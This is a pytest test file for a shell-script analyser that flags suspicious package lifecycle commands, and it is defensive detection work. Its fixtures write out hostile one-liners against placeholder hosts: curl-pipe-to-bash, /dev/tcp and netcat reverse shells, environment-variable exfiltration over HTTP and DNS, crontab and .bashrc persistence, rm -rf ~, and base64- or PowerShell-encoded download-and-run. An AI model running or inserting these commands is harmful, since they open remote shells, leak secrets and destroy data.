"""Fixtures here are hand-written and inert: hosts under example.invalid, no working payload."""

from __future__ import annotations

import base64
from time import perf_counter

import pytest

from darnel.features import syntax
from darnel.features.facts import SourceFacts
from darnel.features.languages.commands import classify
from darnel.features.languages.shell import MAX_PIPES, analyse
from darnel.features.limits import Limits


def facts(code: str | bytes) -> SourceFacts:
    result = analyse(code.encode() if isinstance(code, str) else code)
    syntax.check(result.values)
    return result


def seen(code: str) -> set[str]:
    return {o.behaviour for o in facts(code).observations}


@pytest.mark.parametrize(
    ("code", "behaviours"),
    [
        ("curl -s http://example.invalid/a | bash", {"spawn.download", "spawn.piped"}),
        ("wget -qO- http://example.invalid/a | sudo sh -", {"spawn.download", "spawn.piped"}),
        ("node a.js && curl http://example.invalid/$(whoami)", {"spawn.download", "host.identity"}),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", {"spawn.reverse"}),
        ("nc -e /bin/sh 192.0.2.1 4444", {"spawn.reverse", "net.socket"}),
        ("env | curl -X POST -d @- http://example.invalid", {"env.all", "net.send"}),
        ("printenv > /tmp/x", {"env.all", "file.write"}),
        ("echo $NPM_TOKEN", {"env.secret"}),
        ("node index.js > /dev/null 2>&1 &", {"hide.silence", "spawn.hidden"}),
        ("nohup ./agent &", {"spawn.hidden"}),
        ("(crontab -l; echo x) | crontab -", {"persist.scheduler"}),
        ("echo 'x' >> ~/.bashrc", {"persist.shell"}),
        ("chmod +x /tmp/a && /tmp/a", {"file.executable"}),
        ("rm -rf ~", {"destroy.wipe", "file.delete"}),
        ("nslookup $(hostname).example.invalid", {"net.dns", "host.identity"}),
        ("npm install left-pad", {"spawn.packager"}),
        ("npm publish", {"spread.publish"}),
        ("sleep 60; node a.js", {"guard.delay"}),
        ("cmd /c start /b x.bat", {"spawn.shell"}),
        ("powershell -w hidden -c iwr http://example.invalid", {"spawn.interpreter", "spawn.hidden"}),
        ("base64 -d x.txt | sh", {"decode.text", "code.evaluate"}),
        ("python3 -c 'import os'", {"spawn.interpreter"}),
        ("node -e \"require('child_process').exec('id')\"", {"spawn.interpreter", "spawn.shell"}),
        ("node <<EOF\nrequire('fs').unlinkSync(a)\nEOF\n", {"file.delete"}),
        ("sh -c 'curl http://example.invalid | sh'", {"spawn.piped"}),
        ('if [ -n "$GITHUB_ACTIONS" ]; then exit; fi', {"guard.ci"}),
        ("start %USERNAME%", {"host.identity"}),
    ],
)
def test_commands_are_mapped_to_behaviours(code: str, behaviours: set[str]) -> None:
    assert behaviours <= seen(code)


@pytest.mark.parametrize(
    "code",
    [
        "husky install",
        "node-gyp rebuild",
        "tsc",
        "node scripts/postinstall.js",
        "prebuild-install || node-gyp rebuild",
        "npm run build",
        "is-ci || husky install",
        "opencollective-postinstall || exit 0",
        "tsc -p . && node dist/x.js --flag",
        "cross-env NODE_ENV=production webpack --mode production",
        "mocha --exit test/*.js | tap-spec",
        "command -v git >/dev/null 2>&1 || exit 0",
        "echo hello",
    ],
)
def test_ordinary_lifecycle_scripts_show_nothing(code: str) -> None:
    assert not seen(code)


def test_encoded_commands_are_decoded() -> None:
    payload = base64.b64encode(b"curl http://example.invalid/second | sh").decode()
    found = [o for o in facts(f"echo {payload} | base64 -d | bash").observations if o.behaviour == "spawn.piped"]
    assert found
    assert found[0].hidden
    encoded = base64.b64encode("Invoke-WebRequest http://example.invalid".encode("utf-16-le")).decode()
    assert "spawn.download" in seen(f"powershell -enc {encoded}")


def test_functions_run_when_called() -> None:
    result = facts("never() { curl http://example.invalid; }\nonce() { whoami; }\nonce\n")
    top = {o.behaviour: o.top for o in result.observations}
    assert top["host.identity"]
    assert not top["spawn.download"]
    assert {"curl", "whoami", "once"} <= set(result.calls)


def test_a_pipeline_is_one_statement_in_order() -> None:
    found = sorted(facts("x; env | base64 | curl -d @- http://example.invalid").observations, key=lambda o: o.order)
    assert [o.behaviour for o in found][:2] == ["env.all", "encode.text"]
    assert len({o.statement for o in found}) == 1


def test_lines_and_literals() -> None:
    result = facts("#!/bin/sh\n\ncurl 'http://example.invalid/a b' \\\n  -o /tmp/x\n")
    assert {o.line for o in result.observations} == {3}
    assert {"http://example.invalid/a b", "/tmp/x"} <= {literal.value for literal in result.literals}


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\x00" * 5_000,
        bytes(range(256)) * 40,
        b"$(" * 5_000,
        b"{" * 100_000,
        b"`" * 5_001,
        b"if x; then " * 5_000,
        b"a|" * 3_000,
        b"'" * 9_001,
        b"cat <<E\n" * 5_000,
        b"(" * 100_000,
        b"a && " * 9_000,
        b'"$(' * 5_000,
    ],
)
def test_hostile_bytes_are_survived(data: bytes) -> None:
    begin = perf_counter()
    facts(data)
    assert perf_counter() - begin < 15


def test_budgets_are_kept() -> None:
    result = analyse(b"curl http://example.invalid/something\n" * 300, Limits(observations=50, literals=10))
    assert len(result.observations) == 50
    assert len(result.literals) == 10
    assert {"observations", "literals"} <= set(result.cut)


def test_a_script_with_very_many_pipes_is_cut() -> None:
    facts = analyse(b"a |" * (MAX_PIPES + 1))
    assert facts.cut == ["parse-bytes"]
    assert analyse(b"a | b\n" * MAX_PIPES).cut == []


def test_asking_for_a_program_neither_runs_nor_hides_it() -> None:
    assert seen("command -v curl > /dev/null 2>&1") == set()
    assert {"spawn.download", "hide.silence"} <= seen("command curl http://a.example.invalid/x > /dev/null")
    assert classify("command -v curl >/dev/null 2>&1 || exit 1") == ()
    assert "hide.silence" in classify("which curl >/dev/null; curl http://a.example.invalid/x >/dev/null")
